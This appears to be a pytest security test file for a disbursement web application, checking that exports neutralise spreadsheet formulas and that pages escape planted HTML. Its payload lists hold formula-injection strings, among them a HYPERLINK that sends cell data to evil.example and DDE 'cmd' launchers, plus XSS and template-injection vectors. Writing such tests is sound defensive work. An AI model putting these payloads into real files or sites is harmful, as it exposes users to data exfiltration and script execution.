"""What was planted in names and titles runs nowhere: not as a formula, not as a script, not as a template."""

import csv
import io
import re
from pathlib import Path

import pytest
from sqlalchemy import select, update

from core.disbursements import payout
from core.disbursements.models import BankFile, Run
from core.exports.writing import write_list
from core.extensions import db
from core.org.models import Org
from core.people.models import Person
from core.registers.sheets import harmless, read_rows
from core.users.access import today
from core.users.testing import AsUser
from tests.disbursements.conftest import Campaign
from tests.disbursements.conftest import campaign as campaign
from tests.disbursements.conftest import plugins as plugins
from tests.disbursements.test_bank_files import content

pytestmark = pytest.mark.services
FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"看")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1+1",
    "＠SUM(1)",
    '=1","=2',
    "=1\n=2",
]
IMAGE = "<img src=x onerror=alert(1)>"
SCRIPT = "</script><script>alert(1)</script>"
TEMPLATE = "{{7*7}}{%x%}${7*7}"
QUOTES = "\"'><svg/onload=alert(1)>"
#: What a page may never hold as it was planted.
RAW = ("<img src=x", "<script>alert", "<svg/onload")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str, tmp_path: Path) -> None:
    """Wants a formula to run in the Excel of whoever opens a file, planted in a name (second order)."""
    assert harmless(text) == f"'{text}"
    for kind in ("csv", "xlsx"):
        target = io.BytesIO()
        write_list(target, kind, [text, "b"], [[text, text]], text)
        file = tmp_path / f"a.{kind}"
        file.write_bytes(target.getvalue())
        if kind == "csv":
            cells = list(csv.reader(io.StringIO(target.getvalue().decode("utf-8-sig"), newline="")))
            assert cells == [[f"'{text}", "b"], [f"'{text}", f"'{text}"]]
        else:
            assert b"<f>" not in target.getvalue()
            values = [row.values for row in read_rows(file)]
            assert len(values) == 2


@pytest.mark.parametrize("text", ["王芳", "a=b", "1-1", "张＝三", ""])
def test_what_is_no_formula_is_left_alone(text: str) -> None:
    assert harmless(text) == text


@pytest.fixture
def planted(campaign: Campaign) -> Run:
    """A run that is sent to the bank; its people, its unions and its title are called after attacks."""
    names = [IMAGE, SCRIPT, TEMPLATE, QUOTES, *FORMULAS]
    for person, name in zip(db.session.scalars(select(Person).order_by(Person.id)), names, strict=False):
        person.name, person.bank_name = name, IMAGE
    texts = {"name": SCRIPT, "short_name": IMAGE}
    db.session.execute(update(Org).where(Org.code.in_(["6101", "610102", "610102001"])).values(**texts))
    campaign.finance.name = campaign.clerk.name = QUOTES
    db.session.commit()
    campaign.fund(10_000, "6101", "6102", "6111")
    run = campaign.approved(title=SCRIPT)
    payout.post(campaign.finance, run, today())
    payout.start_bank_files(campaign.finance, run)
    campaign.run_jobs()
    db.session.refresh(run)
    return run


def test_no_page_holds_what_was_planted_as_it_was(planted: Run, campaign: Campaign, as_user: AsUser) -> None:
    """Wants a script to run in the page of a reviewer, planted in names, titles and banks."""
    here = f"/2014/61/aid/runs/{planted.id}"
    person = db.session.scalars(select(Person).where(Person.name == IMAGE)).one()
    browser, seen = as_user(campaign.finance), ""
    for path in (
        here,
        f"{here}/bank",
        f"{here}/payments",
        f"{here}/exclusions",
        f"{here}/bank/lists/6101",
        "/2014/61/aid/runs/",
        "/ledger/",
        "/ledger/budget/",
        "/ledger/balances",
        "/people",
        f"/people/{person.id}",
        "/org/6101",
        "/org/610102",
        "/account",
        "/jobs/",
        "/",
    ):
        answer = browser.get(path)
        assert answer.status_code in (200, 404), path
        seen += answer.text
        for raw in RAW:
            assert raw not in answer.text, path
        assert "49" not in re.findall(r"<td[^>]*>\s*(49)", answer.text), path
    assert "&lt;img src=x" in seen
    assert "\\u003cimg src=x" in seen, "a chart has the name among its data"
    assert "{{7*7}}" in seen


def test_a_search_that_finds_nothing_repeats_nothing_raw(campaign: Campaign, as_user: AsUser) -> None:
    """Wants a link that runs a script, by what a page repeats of its address."""
    browser = as_user(campaign.clerk)
    for text in (IMAGE, SCRIPT, QUOTES, TEMPLATE):
        for path in ("/people", "/org/list", "/login", "/no/such/page"):
            answer = browser.get(path, query_string={"name": text, "org": text, "q": text, "sort": text, "next": text})
            assert answer.status_code < 500, path
            for raw in RAW:
                assert raw not in answer.text, path


def test_the_files_of_the_bank_hold_no_formula(planted: Run) -> None:
    """Wants a formula in the file that goes to the bank."""
    for file in db.session.scalars(select(BankFile).where(BankFile.run_id == planted.id)):
        for row in csv.reader(io.StringIO(content(file).decode("utf-8-sig"), newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")), row
